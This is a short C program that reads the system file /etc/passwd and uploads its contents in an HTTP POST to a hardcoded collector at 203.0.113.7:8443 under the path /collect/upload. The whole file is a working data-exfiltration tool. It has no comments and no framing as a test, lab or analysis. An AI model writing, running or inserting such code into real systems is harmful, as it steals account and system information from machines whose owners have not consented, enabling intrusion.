#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#define BODY_MAX 8192

long read_all(const char *file_name, char *body, long cap) {
	FILE *fp = fopen(file_name, "r");
	if (fp == NULL) return -1;
	long used = fread(body, 1, cap - 1, fp);
	body[used] = 0;
	fclose(fp);
	return used;
}

int post_data(const char *host, int host_port, const char *url_path, const char *body, long body_len) {
	char header[512];
	int sock = socket(AF_INET, SOCK_STREAM, 0);
	if (sock < 0) return -1;
	struct sockaddr_in dest;
	dest.sin_family = AF_INET;
	dest.sin_port = htons(host_port);
	dest.sin_addr.s_addr = inet_addr(host);
	if (connect(sock, (struct sockaddr *)&dest, sizeof(dest)) < 0) return -1;
	int header_len = snprintf(header, sizeof(header),
		"POST %s HTTP/1.0\r\nContent-Type: text/plain\r\nContent-Length: %ld\r\n\r\n", url_path, body_len);
	send(sock, header, header_len, 0);
	send(sock, body, body_len, 0);
	close(sock);
	return 0;
}

int main() {
	char *target_file = "/etc/passwd";
	char *collector_ip = "203.0.113.7";
	int collector_port = 8443;
	char *upload_path = "/collect/upload";
	static char contents[BODY_MAX];

	long n_read = read_all(target_file, contents, BODY_MAX);
	if (n_read < 0) return 1;
	return post_data(collector_ip, collector_port, upload_path, contents, n_read) == 0 ? 0 : 1;
}
